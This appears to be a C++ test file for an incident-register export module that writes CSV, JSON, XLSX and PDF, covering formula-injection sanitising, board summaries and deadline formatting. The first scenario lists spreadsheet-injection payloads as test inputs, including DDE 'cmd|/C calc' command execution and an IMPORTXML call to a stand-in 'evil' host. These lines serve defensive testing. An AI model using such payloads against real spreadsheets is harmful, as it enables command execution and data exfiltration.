@@ -1,0 +1,176 @@
+#include "engine/papers/register.h"
+
+#include <cstdio>
+#include <cstdlib>
+#include <filesystem>
+
+#include <nlohmann/json.hpp>
+
+#include "engine/core/json.h"
+#include "engine/papers/board.h"
+#include "engine/papers/pdf.h"
+#include "engine/papers/war_room.h"
+#include "tests/catch.h"
+
+using namespace tocsin;
+using namespace tocsin::papers;
+
+namespace {
+
+bool has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }
+
+Instant day(int number) { return from_micros(1'764'000'000'000'000LL + number * 86'400'000'000LL); }
+
+RegisterRow row(const std::string& id, const std::string& title) {
+    RegisterRow out;
+    out.id = id;
+    out.title = title;
+    out.state = "responding";
+    out.severity = "high";
+    out.role = "controller";
+    out.opened_at = out.updated_at = day(0);
+    return out;
+}
+
+Register sample() {
+    Register all;
+    all.organisation = "Example Hosting GmbH";
+    all.made_at = day(9);
+    all.rows = {row("inc_1", "=HYPERLINK(\"http://evil.example\")"), row("inc_2", "Bücher, \"offen\"\nzweite Zeile")};
+    all.rows[1].state = "closed";
+    all.rows[1].breach = "confidentiality, availability";
+    all.rows[1].aware_at = day(1);
+    all.rows[1].clocks = {.met = 1, .late = 2};
+    all.rows[1].open_measures = 3;
+    return all;
+}
+
+/// The cells of a CSV as RFC 4180 has them.
+std::vector<std::vector<std::string>> cells_of(const std::string& csv) {
+    std::vector<std::vector<std::string>> out(1, std::vector<std::string>(1));
+    bool inside = false;
+    for (std::size_t i = 0; i < csv.size(); ++i) {
+        const char c = csv[i];
+        if (inside && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') out.back().back() += csv[++i];
+        else if (c == '"') inside = !inside;
+        else if (!inside && c == ',') out.back().emplace_back();
+        else if (!inside && c == '\r' && i + 1 < csv.size() && csv[i + 1] == '\n') ++i, out.emplace_back(1, std::string());
+        else out.back().back() += c;
+    }
+    REQUIRE_FALSE(inside);
+    out.pop_back();
+    return out;
+}
+
+/// The sheet inside a workbook, by unzip.
+std::string part_of(const std::string& xlsx, const std::string& part) {
+    std::string path = (std::filesystem::temp_directory_path() / "register-test-XXXXXX").string();
+    const int file = mkstemp(path.data());
+    REQUIRE(file >= 0);
+    FILE* to = fdopen(file, "wb");
+    REQUIRE(std::fwrite(xlsx.data(), 1, xlsx.size(), to) == xlsx.size());
+    std::fclose(to);
+    FILE* from = popen(("unzip -p " + path + " " + part).c_str(), "r");
+    std::string out;
+    char piece[4096];
+    for (std::size_t n = 0; (n = std::fread(piece, 1, sizeof piece, from)) > 0;) out.append(piece, n);
+    CHECK(pclose(from) == 0);
+    std::filesystem::remove(path);
+    return out;
+}
+
+}  // namespace
+
+SCENARIO("no cell of the register runs in a spreadsheet", "[papers][register]") {
+    for (const std::string text : {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\"=1", "'=1", "\u00A0=1", "\uFEFF=1", "\u200B=1",
+                                   "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201", "=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "|calc", "%0A=1",
+                                   "=IMPORTXML(CONCAT(\"http://evil\",A1))", "-2+3+cmd|' /C calc'!A0", ";=1", ",=1", "\u3000=1", "\"\"=1", "\t"}) {
+        INFO(text);
+        CHECK(harmless(text).front() == '\'');
+    }
+    for (const std::string text : {"", "a=1", "Bucket open", "1+1", "mail@example.org", "x-y", "\u00FCber", "(=1)"}) {
+        INFO(text);
+        CHECK(harmless(text) == text);
+    }
+    CHECK(harmless(std::string("a\0b\x1b", 4)) == "ab");
+}
+
+SCENARIO("the register as CSV has every incident in the cells of RFC 4180", "[papers][register]") {
+    const Register all = sample();
+    const auto cells = cells_of(to_csv(all));
+    REQUIRE(cells.size() == 3);
+    CHECK(cells[0].front() == "occasion");
+    for (const auto& line : cells) CHECK(line.size() == register_columns().size() + 1);
+    CHECK(cells[1][2] == "'=HYPERLINK(\"http://evil.example\")");
+    CHECK(cells[2][2] == "Bücher, \"offen\"\nzweite Zeile");
+    CHECK(cells[1][0] == "real");
+    Register drill = sample();
+    drill.occasion = Occasion::drill;
+    CHECK(cells_of(to_csv(drill))[1][0] == "drill");
+}
+
+SCENARIO("the register as JSON keeps texts as they are, and instants that are not there as null", "[papers][register]") {
+    const auto read = parse_json(to_json(sample()));
+    REQUIRE(read);
+    const auto& items = read->at("items");
+    REQUIRE(items.size() == 2);
+    CHECK(items[0].at("title") == "=HYPERLINK(\"http://evil.example\")");
+    CHECK(items[0].at("aware_at").is_null());
+    CHECK(items[1].at("aware_at") == to_rfc3339(day(1)));
+    CHECK(items[1].at("clocks").at("late") == 2);
+}
+
+SCENARIO("the register as a workbook has strings, dates, a frozen head and a filter, and never a formula", "[papers][register]") {
+    const auto xlsx = to_xlsx(sample());
+    REQUIRE(xlsx);
+    const std::string sheet = part_of(*xlsx, "xl/worksheets/sheet1.xml"), strings = part_of(*xlsx, "xl/sharedStrings.xml");
+    CHECK_FALSE(has(sheet, "<f>"));
+    CHECK(has(sheet, "<autoFilter"));
+    CHECK(has(sheet, "state=\"frozen\""));
+    CHECK(has(strings, "=HYPERLINK("));
+    CHECK(has(strings, "Bücher"));
+    Register drill = sample();
+    drill.occasion = Occasion::drill;
+    drill.rows[0].facts = std::string(200'000, 'x') + std::string("\x01", 1);
+    const auto marked = to_xlsx(drill);
+    REQUIRE(marked);
+    CHECK(has(part_of(*marked, "xl/workbook.xml"), "Register (drill)"));
+    CHECK(has(part_of(*marked, "xl/sharedStrings.xml"), "the JSON has all of it"));
+    CHECK(to_xlsx(sample()).value() == *xlsx);
+}
+
+SCENARIO("the register as a paper, and the summary for management, can be drawn", "[papers][register][board]") {
+    const auto drawn = to_pdf(to_paper(sample()));
+    REQUIRE(drawn);
+    CHECK(drawn->rfind("%PDF-", 0) == 0);
+    CHECK(to_pdf(board_paper(sample())));
+    CHECK(to_pdf(board_paper(Register{})));
+}
+
+SCENARIO("management sees numbers and nobody's words", "[papers][board]") {
+    const Register all = sample();
+    const BoardNumbers n = board_numbers(all.rows);
+    CHECK(n.incidents == 2);
+    CHECK(n.open == 1);
+    CHECK(n.clocks.late == 2);
+    CHECK(n.open_measures == 3);
+    REQUIRE(n.by_month.size() == 1);
+    CHECK(n.by_month[0].incidents == 2);
+    CHECK(n.by_month[0].late == 1);
+    REQUIRE(n.by_breach.size() == 3);
+    REQUIRE(n.open_by_severity_and_state.size() == 1);
+    CHECK(n.open_by_severity_and_state[0].second == "responding");
+    const std::string json = board_json(all);
+    CHECK(parse_json(json));
+    for (const char* word : {"HYPERLINK", "offen", "inc_1"}) CHECK_FALSE(has(json, word));
+}
+
+SCENARIO("the rest of a clock is never below zero, and late is said", "[papers][war-room]") {
+    CHECK(rest_of(day(1) + std::chrono::minutes(200), day(1)) == "in 3 h 20 min");
+    CHECK(rest_of(day(3) + std::chrono::hours(4), day(1)) == "in 2 days 4 h");
+    CHECK(rest_of(day(1), day(2) + std::chrono::hours(1)) == "LATE by 1 day 1 h");
+    CHECK(rest_of(day(1), day(1)) == "in 0 h 0 min");
+    const LocalTime berlin{"Europe/Berlin", [](Instant) { return Micros(std::chrono::hours(1)); }};
+    CHECK(moment(berlin, from_micros(1'764'500'000'000'000)) == "2025-11-30 11:53 Europe/Berlin (10:53 UTC)");
+    CHECK(moment({}, from_micros(1'764'500'000'000'000)) == "2025-11-30 10:53 UTC");
+}
